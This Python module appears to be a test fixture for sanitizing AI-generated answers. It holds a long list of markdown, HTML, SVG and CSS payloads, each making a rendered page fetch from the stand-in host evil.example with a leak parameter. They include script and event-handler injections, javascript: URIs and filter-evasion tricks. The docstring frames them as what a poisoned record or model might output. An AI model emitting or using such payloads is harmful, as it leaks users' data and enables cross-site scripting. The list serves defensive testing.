"""What a poisoned record, document or model might put in an answer to carry data out of the page: each names the host
`evil.example`, which nothing may ask for."""

# ruff: noqa: E501

_URL = "https://evil.example/x?leak=1085"
_MARKDOWN = [
    f"![a]({_URL})", f"![a](<{_URL}>)", f'![a]({_URL} "t")', f"![][r]\n\n[r]: {_URL}", f"![r]\n\n[r]: <{_URL}>",
    f"[![a]({_URL})]({_URL})", f"[a]({_URL})", f"[a](<{_URL}>)", f"[a][r]\n\n[r]: {_URL} 'x'", f"[r]\n\n[r]: {_URL}",
    f"<{_URL}>", _URL, "https:evil.example/x", "//evil.example/x", "[a](//evil.example/x)", "[a](\\\\evil.example\\x)",
    "[a](https:evil.example)", "[a](HTTPS://EVIL.EXAMPLE)", "![a](data:image/svg+xml,<svg onload=fetch('//evil.example')>)",
    "[a](javascript:fetch('//evil.example'))", "[a](JaVaScRiPt:fetch`//evil.example`)", "[a](java\tscript:fetch('//evil.example'))",
    "[a](&#106;avascript:fetch('//evil.example'))", "[a](vbscript:evil.example)", "[a](data:text/html,<script src=//evil.example></script>)",
    "[<img src=//evil.example>](/documents/1)", "[`<img src=//evil.example>](/documents/1)", "[//evil.example](/documents/1)",
    "[a](blob:https://evil.example/1)", "[a](/documents/..%2f..%2fevil.example)", "[a](/documents/x?y=//evil.example/#z)",
    "[a](/documents/1@evil.example/x)", "[a](https://127.0.0.1@evil.example/)", "[a](https://docs.example@evil.example/)",
    "[a](https://docs.example.evil.example/)", "[a](https://evil.example\\@docs.example/)", "[a](https://docs.example:443@evil.example)",
    f"![a]({_URL}\n", f"text ![a]({_URL}) text\n\n|a|\n|-|\n|![a]({_URL})|", f"- ![a]({_URL})\n  - [b]({_URL})", f"> ![a]({_URL})",
    f"# ![a]({_URL})", f"**![a]({_URL})**", f"~~![a]({_URL})~~", f"[^1]\n\n[^1]: ![a]({_URL})", f"\\![a]({_URL})", f"!\u200b[a]({_URL})",
    "www.evil.example", "leak@evil.example", "<mailto:leak@evil.example>", "ftp://evil.example/x", "[a](ws://evil.example)",
]  # fmt: skip
_HTML = [
    f"<img src={_URL}>", f'<IMG SRC="{_URL}">', f"<img srcset='{_URL} 2x'>", f"<picture><source srcset={_URL}><img></picture>",
    "<img src=x onerror=fetch('//evil.example')>", "<svg onload=fetch('//evil.example')>", f"<svg><image href={_URL} /></svg>",
    f"<svg><use href='{_URL}#a'/></svg>", "<svg><script>fetch('//evil.example')</script></svg>",
    f"<svg><foreignObject><img src={_URL}></foreignObject></svg>", f"<svg><feImage href={_URL} /></svg>",
    f"<svg><animate attributeName=href values={_URL} /></svg>", "<script>fetch('//evil.example')</script>",
    "<script src=//evil.example/x.js></script>", "<scr<script>ipt src=//evil.example>", f"<iframe src={_URL}></iframe>",
    "<iframe srcdoc=\"<img src='//evil.example'>\"></iframe>", f"<object data={_URL}></object>", f"<embed src={_URL}>",
    f"<link rel=stylesheet href={_URL}>", f"<link rel=prefetch href={_URL}>", "<link rel=dns-prefetch href=//evil.example>",
    f"<link rel=preconnect href={_URL}>", f"<meta http-equiv=refresh content='0;url={_URL}'>", f"<base href={_URL}>",
    f"<form action={_URL}><button autofocus>go</button></form>", f"<input type=image src={_URL}>", f"<video poster={_URL}></video>",
    f"<video src={_URL} autoplay></video>", f"<audio src={_URL} autoplay></audio>", f"<track src={_URL}>", f"<body background={_URL}>",
    f"<table background={_URL}><tr><td background={_URL}>", f"<a href={_URL} ping={_URL}>a</a>", f"<a href=/ ping={_URL}>a</a>",
    "<details open ontoggle=fetch('//evil.example')>", "<math><mtext><table><mglyph><style><img src=x onerror=fetch('//evil.example')>",
    "<noscript><p title='</noscript><img src=//evil.example>'>", "<template><img src=//evil.example></template>",
    "<!--><img src=//evil.example>-->", "<![CDATA[<img src=//evil.example>]]>", "<xmp><img src=//evil.example></xmp>",
    "<portal src=//evil.example></portal>", "<isindex action=//evil.example>", "<frameset><frame src=//evil.example>",
]  # fmt: skip
_STYLES = [
    f"<style>*{{background:url({_URL})}}</style>", f"<style>@import '{_URL}';</style>", f"<p style='background:url({_URL})'>a</p>",
    f"<div style=\"list-style-image:url('{_URL}')\">a</div>", f"<style>@font-face{{font-family:x;src:url({_URL})}}*{{font-family:x}}</style>",
    f"<p style='content:image-set(\"{_URL}\" 1x)'>a</p>", f"<p style='cursor:url({_URL}),auto'>a</p>",
    f"<style>input[value^='1']{{background:url({_URL})}}</style>", "<link rel=icon href=//evil.example>",
    "<x style=behavior:url(//evil.example)>",
]  # fmt: skip
_TRICKS = [
    f"!\u2060[a]({_URL})", f"\u202e![a]({_URL})\u202c", f"![\u200b]({_URL})", "[a](https://ev\u200bil.example)", "[a](https://еvil.example)",
    f"\uff01[a]({_URL})", f"!\\[a\\]({_URL})", f"&excl;&lsqb;a&rsqb;&lpar;{_URL}&rpar;", "&lt;img src=//evil.example&gt;",
    "&#60;img src=//evil.example&#62;", "\\<img src=//evil.example>", "\\\\<img src=//evil.example>", "!![a](//evil.example)", "!!![a][r]\n\n[r]: //evil.example", "`<img src=//evil.example>`",
    "```html\n<img src=//evil.example>\n```", "    <img src=//evil.example>", "%3Cimg%20src=//evil.example%3E",
    "\x00<img src=//evil.example>", "<img/src=//evil.example>", "<img\nsrc=//evil.example>", "<\u0000img src=//evil.example>",
    "<ımg src=//evil.example>", "${fetch('//evil.example')}", "{{constructor.constructor(\"fetch('//evil.example')\")()}}",
    "<a href=\"/documents/1\" style=\"background:url(//evil.example)\">a</a>", "[a](/documents/1 \"x\\\" onmouseover=fetch('//evil.example')\")",
]  # fmt: skip
PAYLOADS = [*_MARKDOWN, *_HTML, *_STYLES, *_TRICKS]
